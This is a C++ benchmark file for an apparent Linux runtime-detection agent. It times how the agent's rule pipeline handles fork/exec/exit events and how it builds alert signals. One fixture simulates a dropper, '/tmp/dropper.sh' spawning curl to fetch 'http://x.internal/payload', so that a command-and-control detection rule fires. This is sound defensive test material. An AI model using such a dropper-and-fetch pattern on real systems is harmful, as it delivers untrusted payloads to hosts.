// The agent's per-event user-space cost, with both default policies loaded
// (picket's shipped policy and Datadog's default.policy): a whole
// fork → exec → exit cycle through Pipeline::Process (tree apply, event view,
// every exec rule, actions), and building + encoding one signal. The cycles'
// parent sits as deep as bench/exec_storm's workers do on a host (init →
// cron → cron → sh → bash script → exec_storm → worker), so rules that walk
// the ancestors walk as far as they do in `picket run` under the storm.
//
// BM_ExecBatchAfterPollInterval measures what the running agent pays and a
// hot loop does not: a batch of cycles handled after the thread slept one
// poll interval, as `picket run` drains the ring.
// BM_ExecBatchAfterCacheEviction starts each batch with nothing cached, the
// same way every time, for callgrind's cache simulation.
//
//   build/release/src/app/app_pipeline_benchmark

#include <benchmark/benchmark.h>
#include <poll.h>
#include <time.h>

#include <algorithm>
#include <fstream>
#include <sstream>
#include <utility>

#include "app/embedded_policy.h"
#include "app/pipeline.h"
#include "engine/rule_set.h"
#include "fields/catalogue.h"
#include "policy/loader.h"
#include "signals/signal_builder.h"

namespace picket::app {
namespace {

std::string ReadFile(const std::string& path) {
  std::ifstream in(path);
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}

std::shared_ptr<const engine::RuleSet> BothPolicies() {
  std::vector<policy::PolicySource> sources = {
      {.path = std::string(kEmbeddedPolicyName), .text = std::string(EmbeddedDefaultPolicy())},
      {.path = "default.policy",
       .text =
           ReadFile(std::string(PICKET_SOURCE_DIR) + "/../shared/data/datadog/default.policy")}};
  auto compiled =
      std::make_shared<policy::CompiledPolicy>(policy::LoadPolicies(std::move(sources), {}));
  return engine::BuildRuleSet(compiled, fields::FieldCatalogue::Default());
}

// One fork + exec + exit of a child of `parent`, with realistic sizes.
struct Cycle {
  events::ForkEvent fork;
  events::ExecEvent exec;
  events::ExitEvent exit;
};

Cycle MakeCycle(events::ProcessKey parent, std::uint32_t pid, std::uint64_t t,
                const std::string& tool) {
  Cycle c;
  events::ProcessKey child{.pid = pid, .start_time_ns = t};
  c.fork = {.timestamp_ns = t, .child = child, .parent = parent, .parent_tid = parent.pid};
  c.exec.timestamp_ns = t + 1000;
  c.exec.process = child;
  c.exec.parent = parent;
  c.exec.tid = pid;
  c.exec.comm = tool;
  c.exec.filename = "/usr/bin/" + tool;
  c.exec.file.path = "/usr/bin/" + tool;
  c.exec.file.inode = 1234;
  c.exec.file.mode = 0100755;
  c.exec.argv = {tool, "-s", "--max-time", "3", "http://updates.example.internal/pkg/index.json"};
  c.exec.args_size = 64;
  c.exec.cgroup_id = 1;
  c.exec.cgroup_path = "/system.slice/app.service";
  c.exit = {.timestamp_ns = t + 2000, .process = child, .exit_code = 0};
  return c;
}

// An exec_storm worker and its ancestry, as /proc seeding leaves them:
// parents first, linked. Returns the worker's key (the cycles' parent).
events::ProcessKey SeedStormWorker(Pipeline& pipeline) {
  struct Spec {
    const char* comm;
    const char* path;
    std::vector<std::string> argv;
    bool is_exec;
  };
  const Spec chain[] = {
      {"systemd", "/usr/lib/systemd/systemd", {"/sbin/init"}, true},
      {"cron", "/usr/sbin/cron", {"/usr/sbin/cron", "-f"}, true},
      {"cron", "/usr/sbin/cron", {}, false},
      {"sh", "/usr/bin/dash", {"/bin/sh", "-c", "/opt/bench/load.sh"}, true},
      {"bash", "/usr/bin/bash", {"bash", "./load.sh", "--rate", "1600"}, true},
      {"exec_storm",
       "/opt/bench/exec_storm",
       {"/opt/bench/exec_storm", "--workers", "2", "--rate", "1600"},
       true},
      {"exec_storm", "/opt/bench/exec_storm", {}, false},  // the worker: a fork
  };
  std::vector<proc::ProcessPtr> images;
  std::uint32_t pid = 100;
  for (const Spec& spec : chain) {
    auto image = std::make_shared<proc::Process>();
    image->key = {.pid = pid, .start_time_ns = 10ULL * (pid - 99)};
    if (!images.empty()) {
      image->parent_key = images.back()->key;
      image->lineage_parent = images.back();
    }
    image->comm = spec.comm;
    image->file.path = spec.path;
    if (spec.is_exec) {
      image->argv = spec.argv;
    } else {
      image->argv = images.back()->argv;
    }
    image->is_exec = spec.is_exec;
    image->is_thread = !spec.is_exec;
    image->from_seed = true;
    // Children stay in their parent's cgroup, as on a real host: Datadog's
    // execution_context_cgroup rule fires only when an exec changes cgroup.
    image->cgroup_id = 1;
    image->cgroup_path = "/system.slice/app.service";
    images.push_back(std::move(image));
    ++pid;
  }
  pipeline.Seed(images);
  return images.back()->key;
}

// Rules evaluated and ruled out by the prefilter, per cycle (one exec each).
void ReportEngineCounters(benchmark::State& state, const Pipeline& pipeline) {
  const engine::EngineStats& stats = pipeline.engine().stats();
  const auto cycles = static_cast<double>(std::max<std::int64_t>(state.iterations(), 1));
  state.counters["rules_evaluated"] = static_cast<double>(stats.rule_evaluations) / cycles;
  state.counters["rules_skipped"] = static_cast<double>(stats.rules_skipped) / cycles;
  state.counters["matches"] = static_cast<double>(stats.matches) / cycles;
  state.counters["variable_instances"] =
      static_cast<double>(pipeline.engine().variable_instances());
}

// Fork + exec + exit cycles of `tool` (a child of the seeded bash) through a
// pipeline with both default policies; reports signals and engine counters.
void RunExecCycles(benchmark::State& state, const std::string& tool, PipelineOptions options) {
  std::uint64_t emitted = 0;
  Pipeline pipeline(std::move(options), BothPolicies(), nullptr,
                    [&emitted](const signals::Signal&) { ++emitted; });
  const events::ProcessKey worker = SeedStormWorker(pipeline);
  std::uint32_t pid = 1000;
  std::uint64_t t = 1'700'000'000'000'000'000ULL;
  for (auto _ : state) {
    Cycle c = MakeCycle(worker, pid, t, tool);
    // Moved in, as the collector hands over each decoded event.
    pipeline.Process(std::move(c.fork));
    pipeline.Process(std::move(c.exec));
    pipeline.Process(std::move(c.exit));
    pid = pid >= 4'000'000 ? 1000 : pid + 1;
    t += 625'000;  // 1,600 execs/s of event time: exits are reaped as in the agent
  }
  state.SetItemsProcessed(state.iterations());
  state.counters["signals"] = static_cast<double>(emitted);
  ReportEngineCounters(state, pipeline);
}

// A clean host workload: /usr/bin/true run by the storm. No rule matches.
void BM_ExecCycleBothPolicies(benchmark::State& state) { RunExecCycles(state, "true", {}); }
BENCHMARK(BM_ExecCycleBothPolicies);

// The same with every exec rule evaluated (prefilter off): what the
// prefilter saves, measured side by side in one run.
void BM_ExecCycleBothPoliciesNoPrefilter(benchmark::State& state) {
  PipelineOptions options;
  options.engine.prefilter = false;
  RunExecCycles(state, "true", options);
}
BENCHMARK(BM_ExecCycleBothPoliciesNoPrefilter);

// The same without the prefilter's memo of pattern verdicts: what
// remembering the executable's repeated values saves.
void BM_ExecCycleBothPoliciesNoPrefilterMemo(benchmark::State& state) {
  PipelineOptions options;
  options.engine.prefilter_memo = false;
  RunExecCycles(state, "true", options);
}
BENCHMARK(BM_ExecCycleBothPoliciesNoPrefilterMemo);

// The same with every ancestor test walking the whole lineage (no lineage
// memo): what remembering "some ancestor is sshd / omiagent / in /tmp" saves.
void BM_ExecCycleBothPoliciesNoLineageMemo(benchmark::State& state) {
  PipelineOptions options;
  options.lineage_memo = false;
  RunExecCycles(state, "true", options);
}
BENCHMARK(BM_ExecCycleBothPoliciesNoLineageMemo);

// A network tool from a clean parent: Datadog's net_util_v2 evaluates its
// variables and may match (rate-limited); picket's net_util walks ancestors.
void BM_NetToolExecCycleBothPolicies(benchmark::State& state) { RunExecCycles(state, "curl", {}); }
BENCHMARK(BM_NetToolExecCycleBothPolicies);

// More than this VM's last-level cache (and callgrind's --LL in the docs).
constexpr std::size_t kEvictionBytes = 64u << 20;

std::uint64_t ThreadCpuNs() {
  timespec ts{};
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
  return static_cast<std::uint64_t>(ts.tv_sec) * 1'000'000'000ULL +
         static_cast<std::uint64_t>(ts.tv_nsec);
}

enum class Interval {
  kSleep,  // poll() for 10 ms, as the agent does
  kSpin,   // spin on the thread's CPU clock for 10 ms
  kEvict,  // write over a buffer larger than the caches: deterministic, so
           // callgrind's cache simulation counts what a cold batch misses
};

// A batch of state.range(0) /usr/bin/true cycles after the thread spent a
// poll interval (10 ms) asleep, spinning on the clock, or evicting the
// caches: only the batch's thread CPU time is counted. Against
// BM_ExecCycleBothPolicies (the same cycle, hot) this is what caches and
// TLBs emptied in between cost; the spinning variant shows whether that
// needs the thread to sleep.
void RunBatchesAfterInterval(benchmark::State& state, Interval interval) {
  Pipeline pipeline({}, BothPolicies(), nullptr);
  const events::ProcessKey worker = SeedStormWorker(pipeline);
  const auto batch = static_cast<std::uint32_t>(state.range(0));
  std::uint32_t pid = 1000;
  std::uint64_t t = 1'700'000'000'000'000'000ULL;
  std::uint64_t batch_cpu_ns = 0;
  std::vector<std::uint8_t> eviction(interval == Interval::kEvict ? kEvictionBytes : 0);
  for (auto _ : state) {
    switch (interval) {
      case Interval::kSleep:
        poll(nullptr, 0, 10);
        break;
      case Interval::kSpin:
        for (const std::uint64_t until = ThreadCpuNs() + 10'000'000; ThreadCpuNs() < until;) {
        }
        break;
      case Interval::kEvict:
        for (std::size_t i = 0; i < eviction.size(); i += 64) ++eviction[i];
        benchmark::DoNotOptimize(eviction.data());
        break;
    }
    std::vector<Cycle> cycles;
    for (std::uint32_t i = 0; i < batch; ++i)
      cycles.push_back(MakeCycle(worker, pid + i, t + i, "true"));
    const std::uint64_t start = ThreadCpuNs();
    for (Cycle& c : cycles) {
      pipeline.Process(std::move(c.fork));
      pipeline.Process(std::move(c.exec));
      pipeline.Process(std::move(c.exit));
    }
    const std::uint64_t elapsed = ThreadCpuNs() - start;
    state.SetIterationTime(static_cast<double>(elapsed) / 1e9);
    batch_cpu_ns += elapsed;
    pid += batch;
    t += 10'000'000;  // event time follows the interval: exits get reaped
  }
  state.counters["us_per_exec"] =
      static_cast<double>(batch_cpu_ns) / 1e3 / static_cast<double>(state.iterations() * batch);
}

void BM_ExecBatchAfterPollInterval(benchmark::State& state) {
  RunBatchesAfterInterval(state, Interval::kSleep);
}
BENCHMARK(BM_ExecBatchAfterPollInterval)->UseManualTime()->Iterations(300)->Arg(1)->Arg(16);

void BM_ExecBatchAfterBusyInterval(benchmark::State& state) {
  RunBatchesAfterInterval(state, Interval::kSpin);
}
BENCHMARK(BM_ExecBatchAfterBusyInterval)->UseManualTime()->Iterations(100)->Arg(1)->Arg(16);

// Under callgrind with --cache-sim=yes and --toggle-collect on
// Pipeline::Process, the misses of a batch that starts with nothing cached
// (docs/performance.md, "Seventh round").
void BM_ExecBatchAfterCacheEviction(benchmark::State& state) {
  RunBatchesAfterInterval(state, Interval::kEvict);
}
BENCHMARK(BM_ExecBatchAfterCacheEviction)->UseManualTime()->Iterations(50)->Arg(16);

void BM_BuildAndEncodeSignal(benchmark::State& state) {
  auto script = std::make_shared<proc::Process>();
  script->key = {.pid = 10, .start_time_ns = 1};
  script->comm = "dropper.sh";
  script->file.path = "/tmp/dropper.sh";
  script->interpreter.path = "/usr/bin/dash";
  script->argv = {"/bin/sh", "/tmp/dropper.sh"};
  auto curl = std::make_shared<proc::Process>();
  curl->key = {.pid = 11, .start_time_ns = 2};
  curl->comm = "curl";
  curl->file.path = "/usr/bin/curl";
  curl->argv = {"curl", "-s", "http://x.internal/payload"};
  curl->lineage_parent = script;
  events::Event event =
      events::ExecEvent{.timestamp_ns = 1'700'000'000'000'000'000ULL, .process = curl->key};
  signals::RuleInfo rule{.id = "net_util",
                         .description = "Network utility executed from a suspicious location",
                         .message_template = "The process `{{ @process.comm }}` was executed.",
                         .severity = "high",
                         .product_tags = {"tactic:TA0011-command-and-control"}};
  UserNames names;
  for (auto _ : state) {
    signals::MatchContext match{
        .event = &event, .process = curl.get(), .ancestors = {script.get()}};
    signals::Signal signal = signals::BuildSignal(rule, match, {}, names);
    std::string line = signal.ToJsonLine();
    benchmark::DoNotOptimize(line);
  }
}
BENCHMARK(BM_BuildAndEncodeSignal);

}  // namespace
}  // namespace picket::app
